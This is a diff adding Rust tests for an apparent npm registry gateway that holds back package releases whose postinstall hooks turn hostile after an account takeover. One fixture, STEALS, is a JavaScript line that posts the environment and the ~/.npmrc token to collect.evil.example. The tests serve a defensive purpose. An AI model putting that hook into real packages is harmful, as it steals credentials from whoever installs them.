@@ -220,3 +220,210 @@ fn a_burst_of_refused_releases_does_not_lead_the_tag_through_all_of_them() {
     assert_eq!(document["dist-tags"]["latest"], "1.9.0");
     assert_eq!(asked(&gateway, "1.9.0").0, 200);
 }
+
+/// Takes the environment and the token when it is installed.
+const STEALS: &str = "require('https').request({host:'collect.evil.example',method:'POST'})\
+    .end(JSON.stringify(process.env)+require('fs').readFileSync(require('os').homedir()+'/.npmrc'))\n";
+
+/// Releases of the usual account, a day apart, with the same hook.
+fn with_one_hook(first: &str, count: u32, code: impl Fn(u32) -> String) -> Vec<Release> {
+    let first: jiff::Timestamp = first.parse().unwrap();
+    let release = |number: u32| {
+        let published = first + jiff::SignedDuration::from_hours(20 * i64::from(number));
+        Release::new(format!("1.10.{number}"))
+            .published_at(published)
+            .publisher("mara")
+            .file("x.js", code(number))
+            .script("postinstall", "node x.js")
+    };
+    (0..count).map(release).collect()
+}
+
+/// More releases than are read ahead, all of the same: whoever resolves gets none of them, at the first time.
+#[test]
+fn a_takeover_of_many_releases_is_passed_over_whole() {
+    for (first, count) in [
+        ("2026-10-31T10:00:00Z", 6),
+        ("2026-10-31T10:00:00Z", 9),
+        ("2026-11-14T11:00:00Z", 6),
+    ] {
+        let attack = with_one_hook(first, count, |number| format!("{STEALS}// {number}\n"));
+        let registry = before(package("ledger-copy", attack));
+        let world = World::new();
+        let gateway = world.serve(&registry);
+        let document = gateway.packument(NPM, "ledger-copy");
+        for number in 0..count {
+            let version = format!("1.10.{number}");
+            let marked = &document["versions"][&version]["deprecated"];
+            assert!(marked.is_string(), "{version} of {count} {first}: {marked}");
+        }
+        assert_eq!(document["dist-tags"]["latest"], "1.9.0", "{count} {first}");
+        let read = |number: &u32| {
+            let file = format!("/ledger-copy/-/ledger-copy-1.10.{number}.tgz");
+            !registry.requests_to(&file).is_empty()
+        };
+        assert!((0..count).filter(read).count() <= 6, "{count} {first}");
+    }
+}
+
+/// Nobody has looked at the releases before: they have the hook of the refused one, and are not what to use instead.
+#[test]
+fn what_runs_the_same_at_install_is_not_named_instead() {
+    let attack = with_one_hook("2026-10-31T10:00:00Z", 6, |_| STEALS.to_owned());
+    let registry = before(package("ledger-copy", attack));
+    let world = World::new();
+    let gateway = world.serve(&registry);
+    assert_eq!(asked(&gateway, "1.10.5"), (403, "1.9.0".into()));
+    let seen = World::new().run_before(&registry, &["inspect", "ledger-copy@1.10.5"]);
+    assert!(seen.says("use 1.9.0 instead"), "{}", seen.text());
+}
+
+/// Only the last does anything: those before it are read, and served as they were.
+#[test]
+fn a_hook_that_turns_hostile_leaves_what_was_before() {
+    let code = |number: u32| match number {
+        5 => STEALS.to_owned(),
+        _ => "console.log('thank you');\n".to_owned(),
+    };
+    let registry = before(package(
+        "ledger-copy",
+        with_one_hook("2026-10-31T10:00:00Z", 6, code),
+    ));
+    let world = World::new();
+    let gateway = world.serve(&registry);
+    assert_eq!(asked(&gateway, "1.10.5").0, 403);
+    let document = gateway.packument(NPM, "ledger-copy");
+    assert_eq!(document["dist-tags"]["latest"], "1.10.4");
+    assert_eq!(asked(&gateway, "1.10.4").0, 200);
+}
+
+/// Writes into the repository that it is installed in.
+const HOOKS: &str =
+    "require('fs').writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\nnpx lint-staged\\n');\n";
+
+/// How many releases a packument tells of as kept out.
+fn count_kept_out(document: &Value) -> usize {
+    let versions = document["versions"].as_object().unwrap();
+    let kept_out = versions.values().filter(|it| it["deprecated"].is_string());
+    kept_out.count()
+}
+
+/// What there has always been is not new in any release, however the first one is decided on.
+#[test]
+fn a_hook_since_the_first_release_holds_none_that_came_later() {
+    let all = (0..21).map(|number| {
+        let published = format!(
+            "{}-{:02}-05T09:00:00.000Z",
+            2020 + number / 4,
+            1 + number % 4 * 3
+        );
+        Release::new(format!("2.{number}.0"))
+            .published(&published)
+            .publisher("mara")
+            .file("postinstall.js", HOOKS)
+            .file("v.js", format!("module.exports = {number};\n"))
+            .script("postinstall", "node postinstall.js")
+    });
+    let package = Package::new("ledger-copy").maintainer("mara").releases(all);
+    let registry = before(package);
+    let world = World::new();
+    let gateway = world.serve(&registry);
+    let document = gateway.packument(NPM, "ledger-copy");
+    assert_eq!(document["dist-tags"]["latest"], "2.20.0");
+    assert!(count_kept_out(&document) <= 6, "{document:#}");
+    assert_eq!(asked(&gateway, "2.20.0").0, 200);
+}
+
+/// One release was bad, and its owners mended it: whatever came later is had.
+#[test]
+fn a_mended_package_loses_nothing_but_the_bad_release() {
+    let code = |number: u32| match number {
+        0 => STEALS.to_owned(),
+        _ => format!("console.log('thank you {number}');\n"),
+    };
+    let registry = before(package(
+        "ledger-copy",
+        with_one_hook("2026-10-31T10:00:00Z", 9, code),
+    ));
+    let world = World::new();
+    let gateway = world.serve(&registry);
+    for _ in 0..2 {
+        let document = gateway.packument(NPM, "ledger-copy");
+        assert_eq!(document["dist-tags"]["latest"], "1.10.8");
+        assert!(document["versions"]["1.10.0"]["deprecated"].is_string());
+        assert_eq!(count_kept_out(&document), 1, "{document:#}");
+        for number in (1..9).rev() {
+            let version = format!("1.10.{number}");
+            assert_eq!(asked(&gateway, &version).0, 200, "{version}");
+        }
+    }
+}
+
+/// The release that brought the hook is not among those that are looked at one by one, as there are too many: the
+/// first who asks for the newest is refused, and the next gets the last good one.
+#[test]
+fn a_takeover_of_very_many_releases_costs_one_failed_try() {
+    let attack = with_one_hook("2026-09-05T10:00:00Z", 70, |number| {
+        format!("{STEALS}// {number}\n")
+    });
+    let registry = before(package("ledger-copy", attack));
+    let world = World::new();
+    let gateway = world.serve(&registry);
+    let mut failed = 0;
+    loop {
+        let document = gateway.packument(NPM, "ledger-copy");
+        let latest = document["dist-tags"]["latest"].as_str().unwrap();
+        if asked(&gateway, latest).0 == 200 {
+            assert_eq!((latest, count_kept_out(&document)), ("1.9.0", 70));
+            break;
+        }
+        failed += 1;
+        assert!(failed <= 1, "{latest}");
+    }
+}
+
+/// Whoever meets it is told why and what to do; neither it nor another of its kind is what to use instead.
+#[test]
+fn what_is_held_unread_says_so_and_is_freed_by_a_look() {
+    let code = |number: u32| match number {
+        1 => "console.log('thank you');\n".to_owned(),
+        _ => format!("{STEALS}// {number}\n"),
+    };
+    // More than a few requests have read ahead.
+    let registry = before(package(
+        "ledger-copy",
+        with_one_hook("2026-10-25T10:00:00Z", 24, code),
+    ));
+    let world = World::new();
+    let mut gateway = world.serve(&registry);
+    let document = gateway.packument(NPM, "ledger-copy");
+    let versions = document["versions"].as_object().unwrap().iter();
+    let held: Vec<&str> = versions
+        .filter(|(_, manifest)| manifest["deprecated"].is_string())
+        .map(|(version, _)| version.as_str())
+        .collect();
+    assert!(held.contains(&"1.10.1"), "{held:?}");
+    let reply = gateway.get("/ledger-copy/1.10.1", &[("user-agent", NPM)]);
+    let body = reply.json();
+    assert_eq!(reply.status, 403, "{body:#}");
+    assert_eq!(body["weir"]["instead"], "1.9.0");
+    let error = body["error"].as_str().unwrap();
+    assert!(error.contains("nobody has looked at it yet"), "{error}");
+    let told = world.run(&["explain", body["weir"]["block"].as_str().unwrap()]);
+    assert!(
+        told.says("`weir inspect ledger-copy@1.10.1` with the same data folder"),
+        "{}",
+        told.text()
+    );
+    assert!(!told.says("ask for it again"), "{}", told.text());
+    gateway.stop();
+
+    let seen = world.run_before(&registry, &["inspect", "ledger-copy@1.10.1"]);
+    assert!(seen.says("it is served"), "{}", seen.text());
+    let later = world.serve(&registry);
+    let document = later.packument(NPM, "ledger-copy");
+    assert!(!document["versions"]["1.10.1"]["deprecated"].is_string());
+    assert_eq!(document["dist-tags"]["latest"], "1.10.1");
+    assert_eq!(asked(&later, "1.10.1").0, 200);
+    assert_eq!(asked(&later, "1.10.2").0, 403);
+}
